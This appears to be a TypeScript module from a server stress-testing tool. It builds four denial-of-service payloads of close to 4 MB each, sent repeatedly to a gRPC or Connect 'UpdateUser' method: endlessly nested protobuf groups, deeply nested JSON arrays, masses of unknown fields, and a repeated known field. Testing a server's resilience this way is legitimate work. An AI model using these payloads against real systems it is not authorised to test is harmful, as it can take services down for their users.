import type { Attack } from "../attack.ts";
import { callAgainAndAgain } from "../calls.ts";
import { enveloped } from "../requests.ts";
import type { Transport } from "../server.ts";

/** Just below the largest message. */
const size = 4 * 1024 * 1024 - 16;

function message(
  name: string,
  what: string,
  body: Uint8Array,
  type: "application/grpc" | "application/json" = "application/grpc",
): Attack {
  const isGrpc = type === "application/grpc";
  const transports: readonly Transport[] = isGrpc ? ["connect", "grpc"] : ["connect"];
  const call = { method: "UpdateUser", type, body: isGrpc ? enveloped(body) : body, atOnce: 4 };
  return { name, what, transports, run: (target) => callAgainAndAgain(target, call) };
}

/** Groups that begin and never end: each one deeper in the parser's stack. */
export const nestedGroups: Attack = message(
  "nested-groups",
  "messages of 4 MB of unknown groups, each in the one before",
  // Field 100, wire type 3: https://protobuf.dev/programming-guides/encoding/#groups
  Buffer.alloc(size, Buffer.from([0xa3, 0x06])),
);

/** The same in JSON. */
export const nestedJson: Attack = message(
  "nested-json",
  "messages of 4 MB of JSON arrays, each in the one before",
  Buffer.concat([Buffer.from('{"x":'), Buffer.alloc(size - 16, "[")]),
  "application/json",
);

/** A field that nobody knows, two million times. */
export const unknownFields: Attack = message(
  "unknown-fields",
  "messages of 4 MB of unknown fields, 3 bytes each",
  // Field 100, varint 0.
  Buffer.alloc(size - (size % 3), Buffer.from([0xa0, 0x06, 0])),
);

/** A field that is known, given again and again: the last counts, each is read. */
export const repeatedField: Attack = message(
  "repeated-field",
  "messages of 4 MB of a user's empty message, 2 bytes each",
  Buffer.alloc(size, Buffer.from([0x0a, 0])),
);
